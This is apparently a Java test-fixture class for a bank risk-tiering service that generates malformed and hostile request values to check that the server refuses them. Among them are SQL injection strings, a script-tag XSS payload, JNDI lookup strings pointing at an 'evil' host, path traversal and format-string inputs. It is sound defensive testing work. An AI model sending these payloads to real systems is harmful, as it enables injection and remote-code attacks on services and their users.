package bankrisk.tiering.security;

import java.time.LocalDate;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.List;
import java.util.Random;

import bank.common.v1.Date;
import bank.common.v1.PageRequest;

/**
 * Malformed values drawn from a seeded {@link Random}: each one is invalid wherever it is used (so a request that
 * carries one must be refused), plus hostile but valid noise (injection strings, scripts, RTL marks) that rides
 * along in requests refused for another reason.
 */
final class HostileValues {

    static final String INJECTION = "'; DROP TABLE customer; --";
    /** Larger than the server's 4 MiB message limit once encoded. */
    static final int OVER_MESSAGE_LIMIT = 4 * 1024 * 1024 + 100_000;
    static final ZoneId BUSINESS_ZONE = ZoneId.of("Asia/Shanghai");

    private static final List<String> DECIMALS = List.of("", " ", "1e400", "1E5", "NaN", "Infinity", "-Infinity", "1,000",
            "1 000", "+1", "0x10", "１２３", "١٢٣", "1.", ".5", "1.2.3", "--1", "-0", "-0.00", "-1", "1e-400", "12 ",
            " 12", "12\u0000", "\u0000", INJECTION, "1; DROP TABLE balance", "null", "true", "0.1234567890123",
            "1" + "0".repeat(59), "9".repeat(60) + ".99", "1.0E+2", "½", "⁵", "1_000", "$100", "100%", "1.00CNY");
    private static final List<String> AMOUNTS = List.of("1.001", "0.005", "12.345", "-0.01", "-5.00", "-0");
    private static final List<String> IDENTIFIERS = List.of("", " ", "a b", INJECTION, "Robert'); DROP TABLE balance;--",
            "C-1\u0000", "C\n1", "客户1", "C-1;", "../etc/passwd", "%00", "\uD83D\uDE00", "C-1'--", "C.1", "C/1", "C+1",
            "\u202Ec-1", "C-1\t", "${jndi:ldap://evil}", "<script>", "C-1 ", " C-1");
    private static final List<String> CONTROLS = List.of("a\u0000b", "line\nbreak", "\u001b[2J", "\u0007bell", "tab\there",
            "\u007f", "carriage\rreturn", "\u0085next", "\u0000");
    private static final List<String> CURRENCIES = List.of("", "usd", "US", "USDX", "XXY", "¥", "CNY\u0000", "１２３", "C N",
            INJECTION, "ZZZ", "Cny", "123");
    private static final List<String> NOISE = List.of(INJECTION, "Robert'); DROP TABLE balance;--", "<script>alert(1)</script>",
            "${jndi:ldap://evil/x}", "%s%n%x", "名字 🏦", "\u202Eevil", "𝕳𝖔𝖘𝖙𝖎𝖑𝖊", "' OR '1'='1", "\\\\", "\"quoted\"");
    private static final List<String> PAGE_TOKENS = List.of("garbage!!", "b2Zmc2V0Oi0x" /* offset:-1 */,
            "b2Zmc2V0Ong" /* offset:x */, "bGltaXQ6NQ" /* limit:5 */, "offset:5", "%%%", INJECTION,
            "b2Zmc2V0Ojk5OTk5OTk5OTk5OTk5OTk5OTk5OTk5" /* offset:99999999999999999999999 */);

    private final Random random;

    HostileValues(Random random) {
        this.random = random;
    }

    Random random() {
        return random;
    }

    <T> T pick(List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    boolean chance(int percent) {
        return random.nextInt(100) < percent;
    }

    /** Not a plain non-negative decimal. */
    String decimal() {
        return random.nextInt(10) == 0 ? "7".repeat(10_001 + random.nextInt(2_000)) : pick(DECIMALS);
    }

    /** Not a non-negative amount with at most two decimals. */
    String amount() {
        return random.nextBoolean() ? pick(AMOUNTS) : decimal();
    }

    /** Not 1..maxLength letters, digits, '-' or '_'. */
    String identifier(int maxLength) {
        return switch (random.nextInt(6)) {
            case 0 -> "X".repeat(maxLength + 1 + random.nextInt(5));
            case 1 -> "Y".repeat(10_001 + random.nextInt(5_000));
            default -> pick(IDENTIFIERS);
        };
    }

    /** Not a required free text of 1..maxLength printable characters. */
    String text(int maxLength) {
        return switch (random.nextInt(6)) {
            case 0 -> "";
            case 1 -> "   \t ".substring(0, 1 + random.nextInt(4));
            case 2 -> "名".repeat(maxLength + 1 + random.nextInt(10_000));
            default -> pick(CONTROLS);
        };
    }

    /** A free text of at most maxLength characters that is refused: too long or with control characters. */
    String filter(int maxLength) {
        return random.nextBoolean() ? "z".repeat(maxLength + 1 + random.nextInt(10_000)) : pick(CONTROLS);
    }

    /** Hostile but valid text (refused only because of something else in the request). */
    String noise() {
        return pick(NOISE);
    }

    String currency() {
        return random.nextInt(8) == 0 ? "Q".repeat(10_001) : pick(CURRENCIES);
    }

    /** An enum number the contract does not define, or UNSPECIFIED. */
    int enumNumber() {
        return pick(List.of(0, 999, -1, 7, 42, Integer.MAX_VALUE, Integer.MIN_VALUE));
    }

    /** Not a calendar date between 1900 and 9999: missing, out of range, impossible. */
    Date date() {
        return switch (random.nextInt(12)) {
            case 0 -> Date.getDefaultInstance();
            case 1 -> date(0, 1 + random.nextInt(12), 1 + random.nextInt(28));
            case 2 -> date(10_000, 1, 1);
            case 3 -> date(2024, 13, 1);
            case 4 -> date(2023, 2, 30);
            case 5 -> date(2023, 2, 29);
            case 6 -> date(2024, 4, 31);
            case 7 -> date(2024, 1, 0);
            case 8 -> date(2024, 0, 10);
            case 9 -> date(1899, 12, 31);
            case 10 -> date(random.nextInt(), random.nextInt(), random.nextInt());
            default -> date(-1, -1, -1);
        };
    }

    /** A date after today (business clock), refused where dates must not be in the future. */
    Date futureDate() {
        LocalDate date = LocalDate.now(BUSINESS_ZONE).plusDays(2 + random.nextInt(3_000));
        return date(date.getYear(), date.getMonthValue(), date.getDayOfMonth());
    }

    /** Not a month between 1900-01 and 9999-12. */
    bank.common.v1.YearMonth month() {
        return switch (random.nextInt(8)) {
            case 0 -> bank.common.v1.YearMonth.getDefaultInstance();
            case 1 -> month(0, 1 + random.nextInt(12));
            case 2 -> month(10_000, 1);
            case 3 -> month(2024, 13);
            case 4 -> month(2024, 0);
            case 5 -> month(1899, 12);
            case 6 -> month(random.nextInt(), random.nextInt());
            default -> month(2024, -1);
        };
    }

    /** A month after the current business month. */
    bank.common.v1.YearMonth futureMonth() {
        YearMonth month = YearMonth.now(BUSINESS_ZONE).plusMonths(1 + random.nextInt(2_000));
        return month(month.getYear(), month.getMonthValue());
    }

    /** A page request that is refused: bad size or a token this service never issued. */
    PageRequest page() {
        return random.nextBoolean()
                ? PageRequest.newBuilder().setPageSize(pick(List.of(-1, 1001, Integer.MIN_VALUE, Integer.MAX_VALUE, -100))).build()
                : PageRequest.newBuilder().setPageToken(random.nextInt(5) == 0 ? "t".repeat(10_001) : pick(PAGE_TOKENS)).build();
    }

    /** A string that alone makes a message larger than the server accepts. */
    static String overMessageLimit() {
        return "M".repeat(OVER_MESSAGE_LIMIT);
    }

    static Date date(int year, int month, int day) {
        return Date.newBuilder().setYear(year).setMonth(month).setDay(day).build();
    }

    static bank.common.v1.YearMonth month(int year, int month) {
        return bank.common.v1.YearMonth.newBuilder().setYear(year).setMonth(month).build();
    }
}
